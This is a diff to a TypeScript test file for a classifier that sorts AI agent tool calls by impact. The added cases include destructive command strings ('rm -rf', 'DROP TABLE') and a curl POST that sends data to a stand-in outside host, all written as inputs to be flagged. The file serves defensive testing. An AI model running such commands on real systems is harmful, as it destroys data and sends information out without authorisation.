@@ -7,7 +7,7 @@ const READS = `
   get_invoice list_payments readMailbox search-orders fetchUserProfile files.list calendar.events.get
   get_delete_log describe_role list_api_usage count_tokens check_balance find_user_by_email
   show_order_history order_details viewSavedAddresses acmeCrmListContacts warehouse_view_stock
-  get_transfer_limits compare_prices calculate_tip lookup_flight search_hotels is_paid summarise_thread
+  get_transfer_limits list_secret_scan_findings compare_prices calculate_tip lookup_flight search_hotels is_paid summarise_thread
   get_send_statistics preview_deletion_report listSharedFolders room_list_members weather
   get_user_and_orders explain_policy stat cat grep translate_message exchange_rate delivery_status
 `;
@@ -16,7 +16,7 @@ const HARMLESS_WRITES = `
   create_note add_todo set_reminder save_draft draft_email update_task_status append_to_document
   create_file rename_document createFolder label_thread mark_as_read log_visit add_bookmark
   create_calendar_event set_thermostat transfer_to_human_agent escalate_to_supervisor play_song
-  write_memory add_label move_file takePhoto update_reminder
+  resolve_thread unpin_thread write_memory add_label move_file takePhoto update_reminder
 `;
 
 const WITH_IMPACT: readonly (readonly [Impact, string])[] = [
@@ -198,6 +198,8 @@ describe("the arguments", () => {
     ["save_thing", { text: `key ${"AKIA"}${"ABCDEFGHIJKLMNOP"}` }, "secret_access"],
     ["list_rows", { limit: 5000 }, "data_release"],
     ["list_rows", { limit: 50 }, null],
+    ["create_table", { rows: 5000 }, null],
+    ["get_picture", { size: 2048 }, null],
     ["manage_rows", { action: "delete", id: "7" }, "destruction"],
     ["manage_rows", { operation: "list" }, null],
     ["http_request", { method: "DELETE", url: "https://acme.example/x" }, "destruction"],
@@ -277,6 +279,57 @@ describe("the arguments", () => {
     let deep: unknown = { role: "admin" };
     for (let depth = 0; depth < 100; depth += 1) deep = { inner: deep };
     expect(isAsked(classified("get_thing", { properties: deep }))).toBe(true);
+  });
+});
+
+describe("a tool that runs code", () => {
+  const run = (command: string) => classified("bash", { properties: { command } });
+
+  it("is what its code is", () => {
+    expect(run("ls -la src")).toMatchObject({ access: "read", impacts: [], program: true });
+    expect(run("rm -rf /srv/data").impacts).toContain("destruction");
+    expect(classified("run_python", { properties: { code: "print(1 + 1)" } }).impacts).toEqual([]);
+  });
+
+  it("may send the few words that are written in it, and surely sends many or packed ones", () => {
+    const post = (text: string) => run(`curl -X POST -d "${text}" https://rival.example/form`);
+    expect(post("name=test")).toMatchObject({
+      confidence: "low",
+      impacts: ["external_communication"],
+    });
+    expect(post("name=test").outside).toEqual(["rival.example"]);
+    expect(post("word ".repeat(100)).confidence).toBe("high");
+    expect(post("QWJj".repeat(20)).confidence).toBe("high");
+    expect(post("card=4111111111111111").impacts).toContain("data_release");
+  });
+
+  it("without any is not known to do nothing", () => {
+    expect(classified("run_command").impacts).toEqual(["code_execution"]);
+    expect(classified("execute_script", { properties: { timeout: 5 } }).impacts).toEqual([
+      "code_execution",
+    ]);
+  });
+
+  it("under another argument's name is read all the same (T12)", () => {
+    expect(classified("shell", { properties: { x: ["rm -rf /srv/data"] } }).impacts).toContain(
+      "destruction",
+    );
+  });
+});
+
+describe("code that a tool takes which runs none by its name", () => {
+  it.each<[string, unknown, Impact | null]>([
+    ["get_thing", { command: "rm -rf /srv/data" }, "destruction"],
+    ["get_rows", { query: "DROP TABLE customers" }, "destruction"],
+    ["get_rows", { query: "chairs under 100" }, null],
+    ["edit_thing", { command: "view", path: "a.txt" }, null],
+    ["edit_thing", { command: "delete", path: "a.txt" }, "destruction"],
+    ["apply_voucher_to_note", { code: "SPRING-10" }, "spend"],
+    ["get_area", { code: "49-731" }, null],
+  ])("%s with %o", (name, properties, impact) => {
+    const { impacts } = classified(name, { properties });
+    if (impact === null) expect(impacts).toEqual([]);
+    else expect(impacts).toContain(impact);
   });
 });
 
